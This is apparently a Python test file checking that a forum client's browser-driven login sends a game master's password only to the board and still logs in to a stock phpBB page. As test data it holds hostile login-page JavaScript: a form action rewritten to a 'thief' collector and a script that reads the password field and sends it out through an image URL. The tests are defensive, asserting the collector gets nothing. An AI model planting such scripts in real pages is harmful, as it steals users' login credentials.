"""The browser login (`browser = true`) sends the GM's password to the board and nowhere
else, whatever the login page does (issue 22, item 4), and logs in to a stock phpBB.

Two servers on 127.0.0.1 are two hosts: the board, and a collector on another port that
records everything it is sent. The board's login page is hostile in one way each:

(a) its form's `onsubmit` rewrites the action to the collector;
(a') a script rewrites the action as the page loads;
(b) it answers the login POST with a 307 to the collector (Chromium would re-send the body);
(c) a script reads the password field and sends it to the collector in a URL — and what it
    read to the board itself, so the test sees what a script on the page could see.

Real Chromium drives each (skipped without it, failing in CI: tests/browser_board.py). The
collector must see nothing, the password must never be in a page, and where the board
itself is honest the login still goes through.
"""

from __future__ import annotations

import asyncio
import secrets
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http import cookies as http_cookies
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, unquote_plus

import pytest

from forums import User
from forums.browser import browser_login
from forums.guard import ForeignOrigin
from forums.phpbb import PhpbbBoard
from tests.browser_board import needs_browser
from tests.forums.phpbb.helpers_http import PASSWORD, USER
from tests.local_http import running

PHPBB = Path(__file__).resolve().parents[2] / "fixtures" / "phpbb" / "3.3.10" / "en"
LOGIN = """<html><body>
<form id="login" method="post" action="/login/login" {onsubmit}>
  <input type="text" name="login"> <input type="password" name="password">
  <input type="hidden" name="_xfToken" value="tok-1">
  <button type="submit">Log in</button>
</form>
<script>{script}</script>
</body></html>"""


@dataclass
class Host:
    """One server: what it was sent (method, path, body, cookie header)."""

    url: str = ""
    seen: list[tuple[str, str, str, str]] = field(default_factory=list)
    sessions: set[str] = field(default_factory=set)

    def sent(self, text: str) -> bool:
        return any(text in unquote_plus(part) for entry in self.seen for part in entry)


Answer = Callable[[BaseHTTPRequestHandler, Host, str], tuple[int, dict[str, str], str]]


@contextmanager
def serve(answer: Answer) -> Iterator[Host]:
    host = Host()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            return

        def _handle(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
            host.seen.append((self.command, self.path, body, self.headers.get("Cookie", "")))
            status, headers, text = answer(self, host, body)
            data = text.encode("utf-8")
            self.send_response(status)
            for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = _handle

    with running(Handler) as url:
        host.url = url
        yield host


def collector(
    handler: BaseHTTPRequestHandler, host: Host, body: str
) -> tuple[int, dict[str, str], str]:
    return 200, {}, "thanks"


def board(login_page: Callable[[Host], str], *, on_post: Answer | None = None) -> Answer:
    """A board whose login page is `login_page(collector)`; a right password gets a session
    cookie (from the server, as real boards set it) and a redirect home."""

    def answer(
        handler: BaseHTTPRequestHandler, host: Host, body: str
    ) -> tuple[int, dict[str, str], str]:
        jar = http_cookies.SimpleCookie(handler.headers.get("Cookie", ""))
        if handler.command == "POST" and handler.path.startswith("/login/login"):
            if on_post is not None:
                return on_post(handler, host, body)
            form = dict(parse_qsl(body))
            if (form.get("login"), form.get("password")) != (USER, PASSWORD):
                return 200, {}, "<html><body>wrong password</body></html>"
            token = secrets.token_hex(8)
            host.sessions.add(token)
            return 302, {"Location": "/", "Set-Cookie": f"session={token}; Path=/"}, ""
        if handler.path.startswith("/login"):
            return 200, {}, login_page(host)
        if "session" in jar and jar["session"].value in host.sessions:
            return 200, {}, f"<html><body>Welcome, {USER}</body></html>"
        return 200, {}, "<html><body>guest</body></html>"

    return answer


def _login(url: str) -> list[dict[str, Any]]:
    return asyncio.run(browser_login(f"{url}login/", USER, PASSWORD, allow_insecure_http=True))


@needs_browser
def test_a_form_action_rewritten_on_submit_gets_nothing_and_the_login_goes_through() -> None:
    with serve(collector) as thief:
        onsubmit = f"onsubmit=\"this.action='{thief.url}steal'\""
        page = LOGIN.format(onsubmit=onsubmit, script="")
        with serve(board(lambda host: page)) as forum:
            cookies = _login(forum.url)
    assert thief.seen == []
    assert [c["name"] for c in cookies] == ["session"]
    (post,) = [entry for entry in forum.seen if entry[0] == "POST"]
    assert dict(parse_qsl(post[2])) == {"login": USER, "password": PASSWORD, "_xfToken": "tok-1"}


@needs_browser
def test_a_form_action_rewritten_as_the_page_loads_is_refused_before_anything_is_sent() -> None:
    with serve(collector) as thief:
        script = f"document.getElementById('login').action = '{thief.url}steal';"
        page = LOGIN.format(onsubmit="", script=script)
        refused = pytest.raises(ForeignOrigin, match="nothing was sent")
        with serve(board(lambda host: page)) as forum, refused:
            _login(forum.url)
    assert thief.seen == [] and not forum.sent(PASSWORD)
    assert all(method == "GET" for method, _, _, _ in forum.seen)  # no form was posted


@needs_browser
def test_a_307_on_the_login_post_to_another_host_is_refused_before_it_is_sent() -> None:
    with serve(collector) as thief:

        def elsewhere(
            handler: BaseHTTPRequestHandler, host: Host, body: str
        ) -> tuple[int, dict[str, str], str]:
            return 307, {"Location": f"{thief.url}steal"}, ""

        page = LOGIN.format(onsubmit="", script="")
        refused = pytest.raises(ForeignOrigin, match=r"POST http://127\.0\.0\.1:\d+/steal.*refused")
        with serve(board(lambda host: page, on_post=elsewhere)) as forum, refused:
            _login(forum.url)
    assert thief.seen == []
    assert forum.sent(PASSWORD)  # the board itself got it, as it should; nobody else


@needs_browser
def test_a_script_reading_the_password_field_sees_nothing_and_sends_nowhere() -> None:
    with serve(collector) as thief:
        script = (
            "const pw = document.querySelector('input[type=password]');"
            f"new Image().src = '{thief.url}hello';"  # refused: another host
            "const look = () => {"
            "  fetch('/seen?v=' + encodeURIComponent(pw.value));"  # the board: allowed
            f"  new Image().src = '{thief.url}leak?p=' + encodeURIComponent(pw.value);"
            "};"
            "pw.addEventListener('input', look); pw.form.addEventListener('submit', look);"
            "setInterval(look, 50);"
        )
        page = LOGIN.format(onsubmit="", script=script)
        with serve(board(lambda host: page)) as forum:
            cookies = _login(forum.url)
    assert thief.seen == []
    assert [c["name"] for c in cookies] == ["session"]
    looked = [path for method, path, _, _ in forum.seen if path.startswith("/seen")]
    assert looked and all(path == "/seen?v=" for path in looked)  # the field stayed empty
    posts = [entry for entry in forum.seen if entry[0] == "POST"]
    assert len(posts) == 1 and PASSWORD not in "".join(path for _, path, _, _ in forum.seen)


def _phpbb_page(name: str) -> str:
    return (PHPBB / name).read_text(encoding="utf-8")


def phpbb(
    handler: BaseHTTPRequestHandler, host: Host, body: str
) -> tuple[int, dict[str, str], str]:
    """phpBB 3.3.10's saved pages: its login form (submit button named `login`), the index."""
    jar = http_cookies.SimpleCookie(handler.headers.get("Cookie", ""))
    if handler.command == "POST" and handler.path.startswith("/ucp.php?mode=login"):
        form = dict(parse_qsl(body))
        # phpBB logs in only when the form's button `login` comes with the post.
        if (form.get("username"), form.get("password"), form.get("login")) != (
            USER,
            PASSWORD,
            "Login",
        ):
            return 200, {}, _phpbb_page("login_failed_wrong_password.html")
        token = secrets.token_hex(16)
        host.sessions.add(token)
        cookie = f"phpbb3_bzfgv_sid={token}; path=/; HttpOnly"
        return 302, {"Location": "./index.php", "Set-Cookie": cookie}, ""
    if handler.path.startswith("/ucp.php?mode=login"):
        return 200, {}, _phpbb_page("login_page.html")
    if handler.path in ("/", "/index.php") or handler.path.startswith("/index.php?"):
        signed_in = "phpbb3_bzfgv_sid" in jar and jar["phpbb3_bzfgv_sid"].value in host.sessions
        return 200, {}, _phpbb_page("index.html" if signed_in else "index_guest.html")
    return 404, {}, "<html><body>not here</body></html>"


@needs_browser
def test_the_browser_logs_in_to_a_stock_phpbb_login_page() -> None:
    """3.3.10's login form has a text field `username` and a submit button named `login`:
    the user name goes into the first, the second is posted as a browser posts it."""
    with serve(phpbb) as forum:
        gm = PhpbbBoard(
            forum.url, USER, PASSWORD, browser=True, allow_insecure_http=True, min_delay=0
        )

        async def go() -> User:
            try:
                return await gm.login()
            finally:
                await gm.close()

        assert asyncio.run(go()) == User(id="58", name=USER)
    (post,) = [entry for entry in forum.seen if entry[0] == "POST"]
    form = dict(parse_qsl(post[2]))
    assert form["username"] == USER and form["login"] == "Login"
    assert form["form_token"] and form["creation_time"]  # the hidden fields, as served
